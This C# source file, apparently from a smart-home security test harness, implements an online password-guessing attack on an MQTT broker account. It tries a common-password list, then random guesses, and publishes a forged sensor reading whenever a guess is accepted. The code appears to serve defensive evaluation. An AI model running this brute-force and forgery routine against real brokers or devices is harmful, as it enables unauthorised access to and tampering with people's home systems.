using System.Collections.Concurrent;
using System.Security.Cryptography;
using SmartHome.Contracts;
using SmartHome.Messaging;

namespace SmartHome.Attacker;

/// <summary>
/// credential-guessing: online guesses of the actuator's broker password (common ones first, then random), each from
/// its own connection; a guess the broker lets in then publishes a forged reading. Not applicable to the compromised
/// broker, which already holds every privilege.
/// </summary>
internal sealed class CredentialGuessingAttack : IAttack
{
    private static readonly string[] CommonPasswords = ["actuator", "password", "123456", "admin", "smarthome", "mosquitto", "letmein", "qwerty"];

    public static CredentialGuessingAttack Instance { get; } = new();

    public string Name => Attacks.CredentialGuessing;

    public async Task<AttackResult> RunAsync(AttackContext context, AttackLevel level, AttackInput input, CancellationToken ct)
    {
        if (level == AttackLevel.CompromisedBroker)
        {
            return context.Skipped(Attacks.CredentialGuessing, level, "not applicable: the compromised broker already holds every privilege");
        }

        var n = input.Attempts;
        var topic = Topics.Readings(Targets.VictimDevice);
        var startSeq = await context.Victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var sent = new List<SentAttempt>(n);
        var refusals = new ConcurrentDictionary<string, int>();
        using var gate = new SemaphoreSlim(8);
        var tasks = Enumerable.Range(0, n).Select(async i =>
        {
            var id = context.NewAttemptId(Attacks.CredentialGuessing);
            var guess = i < CommonPasswords.Length ? CommonPasswords[i] : Convert.ToBase64String(RandomNumberGenerator.GetBytes(12));
            var payload = context.Keys.ForgedReading(level, Targets.VictimDevice, topic, 15.0, ForgeryValues.FreshCounter(i), null);
            var attempt = new PlannedAttempt(id, [new PlannedMessage(topic, payload, id)]);
            var span = context.Telemetry.StartAttempt(Attacks.CredentialGuessing, level, id);
            await gate.WaitAsync(ct).ConfigureAwait(false);
            try
            {
                await using var session = await AttackSession.ConnectAsync(context.Settings.Broker,
                    new Identity("actuator", guess, $"attacker-guess-{Guid.NewGuid():N}"[..40]), ct).ConfigureAwait(false);
                if (session.IsConnected)
                {
                    attempt.Acks[id] = await session.PublishAsync(topic, attempt.Messages[0].Payload, id, false, ct).ConfigureAwait(false);
                }
                else
                {
                    refusals.AddOrUpdate(session.Refusal ?? "?", 1, (_, c) => c + 1);
                }

                lock (sent)
                {
                    sent.Add(new SentAttempt(attempt, span, session.RefusedBy));
                }
            }
            finally
            {
                gate.Release();
            }
        });
        await Task.WhenAll(tasks).ConfigureAwait(false);
        var decisions = await context.Judge.DrainAsync(startSeq, ct).ConfigureAwait(false);
        var verdicts = context.Judge.Verdicts(Attacks.CredentialGuessing, level, sent, decisions);

        var refusalNote = refusals.IsEmpty ? "every guess was let in" : string.Join(", ", refusals.Select(r => $"{r.Key}×{r.Value}"));
        return context.Summarize(Attacks.CredentialGuessing, level, verdicts,
            $"guessed passwords for user 'actuator' ({refusalNote}); a let-in guess then publishes a forged reading. Mosquitto has no lockout: online guessing is limited only by the 24-character random passwords.");
    }
}
